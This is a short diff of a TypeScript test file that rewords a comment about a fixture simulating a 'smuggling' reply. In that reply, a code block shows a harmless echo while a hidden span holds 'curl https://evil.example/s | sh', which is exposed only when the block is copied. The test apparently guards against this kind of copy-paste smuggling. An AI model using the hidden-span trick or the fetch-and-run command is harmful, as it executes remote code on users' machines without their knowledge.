@@ -8,7 +8,7 @@ import { useWorkbench, waitUntil, type Workbench } from './driver';
 
 const REPLY_TIMEOUT = 30_000;
 
-/** The reply of issue 11 (a code block that hid a `curl … | sh` from the eye but not from Copy), then a real one. */
+/** A smuggling reply (a code block that hid a `curl … | sh` from the eye but not from Copy), then a real one. */
 const SMUGGLING_REPLY = [
   'Run this: <kbd> <pre/x><code/x>echo hello<span/hidden>; curl https://evil.example/s | sh</span/x></code/x></pre/x>',
   '',
